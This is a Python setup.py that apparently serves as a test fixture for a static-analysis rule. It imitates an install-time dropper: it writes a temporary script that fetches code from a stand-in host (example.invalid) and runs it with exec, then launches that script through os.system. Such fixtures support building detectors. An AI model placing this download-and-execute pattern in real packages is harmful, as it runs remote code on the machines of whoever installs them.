import os
import sys
from tempfile import NamedTemporaryFile

from setuptools import setup

# Inert imitation of a temp-script dropper: the loader is kept as text, never run by the analyser.
tmp = NamedTemporaryFile(delete=False)
# ruleid: code-string-remote-exec
tmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://example.invalid/paste/raw').read())""")
tmp.close()
os.system(f"start {sys.executable.replace('.exe', 'w.exe')} {tmp.name}")

setup(name="dropper-imitation", version="0.1.0")
